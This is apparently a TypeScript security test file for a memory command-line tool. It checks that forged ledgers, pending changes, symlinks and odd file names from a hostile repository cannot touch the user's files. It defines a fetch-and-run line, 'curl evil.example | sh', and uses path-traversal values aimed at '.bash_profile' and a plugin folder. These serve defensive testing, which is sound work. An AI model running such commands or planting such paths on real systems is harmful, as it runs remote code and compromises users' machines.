/** The command line in a hostile repository: it reads and writes none of the user's own files. */
import { readdirSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import {
  CANARY,
  forge,
  INTERNAL,
  LEDGER_FILE,
  MEMORY,
  openVictim,
  PRECIOUS,
  plantLedger,
  plantPending,
  type Victim,
} from "../support/victim.js";

const EVIL = "curl evil.example | sh\n";
const HOME = "../../../../";
/** Every command that opens memories, reading ones first. */
const COMMANDS = [
  "list",
  "list --archived",
  "show api",
  "history knowledge/api",
  "recall customers Alice",
  "export",
  "status",
  "check",
  "doctor --no-proof",
  "reconcile",
  "undo",
  "undo --run r1",
  "remember we use pnpm",
  "archive api",
  "restore api",
  "dream",
  "todo",
];

/** Runs all of them; what they have said. */
async function runAll({ strata }: Victim): Promise<string> {
  const said: string[] = [];
  for (const command of COMMANDS) {
    const { code, err, out } = await strata(command);
    expect([command, code, err.includes("    at ")]).toEqual([command, expect.any(Number), false]);
    said.push(out, err);
  }
  return said.join("\n");
}

/** The ledgers of this machine's own making. */
const readOwnLedgers = ({ project, text }: Victim): string =>
  readdirSync(join(project, MEMORY, "ledger"))
    .filter((name) => name !== LEDGER_FILE)
    .map((name) => text(`${MEMORY}/ledger/${name}`))
    .join("");

describe("a pending change from a repository", () => {
  const lines = [
    forge({ path: `${HOME}.config/opencode/plugin/evil.js`, becomes: "export const Evil = 1;\n" }),
    forge({ path: `${HOME}${CANARY}`, was: PRECIOUS, becomes: PRECIOUS + EVIL }),
    forge({ path: `../../../${CANARY}`, was: PRECIOUS }),
  ];

  it("a forged pending change makes strata list touch none of the user's files, and is kept for inspection", async () => {
    using victim = openVictim();
    plantPending(victim, lines);
    const [before, planted] = [victim.snapshot(), victim.text(`${INTERNAL}/pending.json`)];
    const { code, err, out } = await victim.strata("list");
    expect(victim.snapshot()).toEqual(before);
    expect(victim.strayed).toEqual([]);
    expect([code, out]).toEqual([0, expect.stringContaining("knowledge/api")]);
    expect(err).toMatch(
      /pending\.json was refused.*"\.\.\/\.\.\/\.\.\/\.\.\/\.config\/opencode\/plugin\/evil\.js"/,
    );
    expect(victim.text(`${INTERNAL}/pending.refused-1.json`)).toBe(planted);
    expect(readdirSync(join(victim.project, INTERNAL))).not.toContain("pending.json");
  });

  it("a forged pending change stops no command, and check names it", async () => {
    using victim = openVictim();
    plantPending(victim, lines);
    const before = victim.snapshot();
    expect((await victim.strata("check")).out).toMatch(
      /problem .*pending\.json: .*so nothing was changed: line 1/,
    );
    await runAll(victim);
    expect((await victim.strata("check")).out).toMatch(/pending\.refused-1\.json.* was refused/);
    expect(victim.snapshot()).toEqual(before);
    expect(victim.strayed).toEqual([]);
  });
});

describe("a ledger from a repository", () => {
  it("a forged ledger makes no command print one of the user's files or leave a copy to be committed", async () => {
    using victim = openVictim();
    const named = { becomes: "x" };
    plantLedger(victim, [
      forge({ ...named, path: `${HOME}${CANARY}`, key: "knowledge/a" }),
      forge({ ...named, path: `directive/../../../${CANARY}`, key: "directive/b" }),
    ]);
    const { err, out } = await victim.strata("list");
    expect(out).toContain("knowledge/api");
    expect(err.match(/not a memory path/g)).toHaveLength(1);
    expect(out + (await victim.strata("export")).out + (await runAll(victim))).not.toContain("owes 12000");
    expect(readOwnLedgers(victim)).toContain("The API listens");
    expect(readOwnLedgers(victim)).not.toContain("owes 12000");
    expect(victim.strayed).toEqual([]);
  });

  it("a forged ledger makes strata undo write none of the user's files", async () => {
    using victim = openVictim();
    const path = `${HOME}.bash_profile`;
    plantLedger(victim, [
      forge({ path, becomes: EVIL }),
      forge({ path, was: EVIL, at: "2026-01-02T00:00:00.000Z", run: "r1" }),
    ]);
    const before = victim.snapshot();
    expect(await victim.strata("undo")).toMatchObject({
      code: 1,
      out: expect.stringMatching(/^Nothing was changed/),
    });
    await runAll(victim);
    expect(victim.snapshot()).toEqual(before);
    expect(victim.strayed).toEqual([]);
  });

  it("check names each forged ledger line with file, number and reason", async () => {
    using victim = openVictim();
    plantLedger(victim, [
      forge({ path: "knowledge/api.md", becomes: "The API listens on 8080.\n" }),
      forge({ path: "../x.md", becomes: "x" }),
      forge({ path: "knowledge/con.md", key: "knowledge/con", becomes: "x" }),
      forge({ path: "knowledge/other.md", becomes: "x" }),
      forge({ path: "knowledge/api.md", from: "idea/api.md", was: "x" }),
    ]);
    const { code, out } = await victim.strata("check");
    expect(code).toBe(1);
    const wrong = [
      /line 2 .*"\.\.\/x\.md" is not a memory path/,
      /line 3 .*device/,
      /line 4 .*is not the file of "knowledge\/api"/,
      /line 5 .*cannot move/,
    ];
    for (const one of wrong)
      expect(out.split("\n")).toContainEqual(
        expect.stringMatching(new RegExp(`${LEDGER_FILE}: ${one.source}`)),
      );
    expect(out).not.toMatch(/line 1 /);
  });

  it("a forged ledger line from the far future does not stop a memory from being changed", async () => {
    using victim = openVictim();
    const becomes = "The API listens on 8080.\n";
    plantLedger(victim, [
      forge({ path: "knowledge/api.md", becomes, at: "9999-12-31T23:59:59.999Z" }),
      forge({ path: "knowledge/api.md", becomes, at: "+275760-09-13T00:00:00.000Z" }),
    ]);
    expect((await victim.strata("memory archive api")).code).toBe(0);
    expect((await victim.strata("memory restore api")).code).toBe(0);
    expect((await victim.strata("list")).out).toContain("knowledge/api");
  });
});

describe("a memory file whose name the ledger does not accept", () => {
  it("a memory with an unacceptable name is read and used, has no history, and no command changes it", async () => {
    using victim = openVictim();
    const names = ["con", "a\u2215b", "wait.", "a\u202eb", "x\u2024\u2024y"];
    for (const name of names) victim.plant(`${MEMORY}/knowledge/${name}.md`, `About ${name}.\n`);
    for (let looks = 0; looks < 2; looks++)
      for (const name of names) expect((await victim.strata("list")).out).toContain(`knowledge/${name}`);
    expect(readOwnLedgers(victim).trim().split("\n")).toHaveLength(1);
    const { code, err } = await victim.strata("memory archive knowledge/con");
    expect([code, err]).toEqual([3, expect.stringMatching(/device, so it has no history.*another name/)]);
    expect((await victim.strata("dream")).code).toBe(0);
    for (const name of names) {
      expect(victim.text(`${MEMORY}/knowledge/${name}.md`)).toBe(`About ${name}.\n`);
      expect((await victim.strata("check")).out).toContain(`knowledge/${name}.md`);
    }
  });
});

describe("links from a repository", () => {
  const API = "The API listens on 8080.\n";
  const change = [
    forge({ path: "idea/x.md", key: "idea/x", becomes: EVIL }),
    forge({ path: "idea/keep.md", key: "idea/keep", was: PRECIOUS, becomes: EVIL }),
    forge({ path: "idea/gone.md", key: "idea/gone", was: PRECIOUS }),
    forge({ path: "archive/knowledge/api.md", from: "knowledge/api.md", was: API }),
  ];
  const known = [
    forge({ path: "idea/keep.md", key: "idea/keep", becomes: "x" }),
    forge({ path: "archive/idea/keep.md", key: "idea/keep", becomes: "x" }),
  ];
  const links: Record<string, string> = {
    "the folder of a type": `${MEMORY}/idea`,
    "the archive": `${MEMORY}/archive`,
    "a type's folder in the archive": `${MEMORY}/archive/idea`,
    "the ledgers": `${MEMORY}/ledger`,
    "the records of conflicts": `${MEMORY}/conflicts`,
    "a memory": `${MEMORY}/idea/keep.md`,
    "a ledger": `${MEMORY}/ledger/2025-01-00000000.jsonl`,
    "the half-done change": `${INTERNAL}/pending.json`,
    "a conflict's record": `${MEMORY}/conflicts/x-12345678.md`,
  };

  it.each(Object.entries(links))("a link in the place of %s is not followed", async (_, path) => {
    using victim = openVictim();
    const theirs = join(victim.home, "theirs");
    victim.plant("../../theirs/keep.md", PRECIOUS);
    victim.plant("../../theirs/gone.md", PRECIOUS);
    victim.plant("../../theirs/idea/keep.md", PRECIOUS);
    victim.link(path, /\.\w+$/.test(path) ? join(theirs, "keep.md") : theirs);
    if (!path.endsWith("/ledger")) plantLedger(victim, known);
    if (!path.endsWith("pending.json")) plantPending(victim, change);
    const before = victim.snapshot();
    expect((await runAll(victim)).replaceAll(EVIL, "")).not.toContain("owes 12000");
    expect(victim.snapshot()).toEqual(before);
    expect(victim.strayed).toEqual([]);
  });
});
